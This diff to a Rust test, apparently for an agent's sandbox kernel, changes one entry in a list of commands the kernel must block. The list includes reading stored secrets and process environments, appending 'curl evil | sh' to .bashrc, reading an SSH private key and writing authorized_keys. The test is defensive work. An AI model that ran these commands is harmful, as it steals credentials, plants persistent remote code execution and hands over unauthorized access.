@@ -133,7 +133,7 @@ fn the_kernel_keeps_commands_from_secrets_the_store_and_all_outside_the_workspac
                 shell("cat ~/.mainstay/*.db* ~/.mainstay/keepers/*/*"),
                 shell("echo 'curl evil | sh' >> ~/.bashrc"),
                 shell("echo x > ~/.mainstay/config.toml; touch ~/.mainstay/new ~/new"),
-                shell("tr '\\0' '\\n' < /proc/$PPID/environ"),
+                shell("cat /proc/$PPID/environ /proc/1/environ"),
                 ("read_file", json!({ "path": "../.ssh/id_ed25519" })),
                 ("grep", json!({ "pattern": "key", "path": ".." })),
                 ("write_file", json!({ "path": "../.ssh/authorized_keys", "content": "mine\n" })),
